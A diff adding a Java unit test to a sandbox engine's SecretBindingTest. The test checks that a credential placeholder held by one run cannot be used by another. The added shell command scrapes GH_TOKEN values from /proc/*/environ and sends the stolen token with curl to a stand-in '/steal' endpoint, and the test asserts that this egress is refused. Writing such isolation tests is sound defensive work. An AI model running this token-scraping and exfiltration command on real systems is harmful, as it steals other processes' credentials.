@@ -190,6 +190,26 @@ class SecretBindingTest {
     }
 
     @Test
+    void anotherRunsPlaceholder_readFromProcEnviron_refusedWithReason_noSecretUsed() throws Exception {
+        String ws = open(List.of("gh"));
+        // run A (background) holds a placeholder in its environment; it waits until run B has tried
+        ProcessStatus a = engine.startBackground(Tenant.LOCAL, new RunRequest(ws,
+                "while [ ! -e /workspace/b-done ]; do sleep 0.05; done", null, Map.of(), null, null, null));
+        // run B has no credentials of its own, reads A's placeholder from /proc and sends it to the bound host
+        RunResult b = sh(ws, "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f 2>/dev/null | sed -n 's/^GH_TOKEN=//p'; done"
+                + " | head -1 > /workspace/stolen; test -s /workspace/stolen || echo nothing-to-steal;"
+                + " curl -sS --max-time 20 -o /dev/stderr -w '%{http_code}' -H \"Authorization: Bearer $(cat /workspace/stolen)\" "
+                + url("api.cred.test", "/steal") + "; touch /workspace/b-done", List.of());
+        assertEquals("403", b.stdout(), b.toString());
+        assertEquals(1, b.egressDenied().size(), b.toString());
+        String why = b.egressDenied().get(0).reason();
+        assertTrue(why.startsWith("credential placeholder was minted for run '" + a.process() + "'; this connection belongs to run 'run-"), why);
+        assertEquals(List.of(), b.secretsUsed());
+        ProcessStatus done = engine.process(Tenant.LOCAL, ws, a.process(), 0L, 0L, 30, null, 65536);
+        assertTrue(!done.running(), done.toString());
+    }
+
+    @Test
     void parkedPersistentWorkspace_keepsItsBindingsOnResume() throws Exception {
         engine.open(Tenant.LOCAL, new OpenRequest("keeper", "persistent", null, null, null, null, List.of("gh")));
         engine.park(Tenant.LOCAL, "keeper");
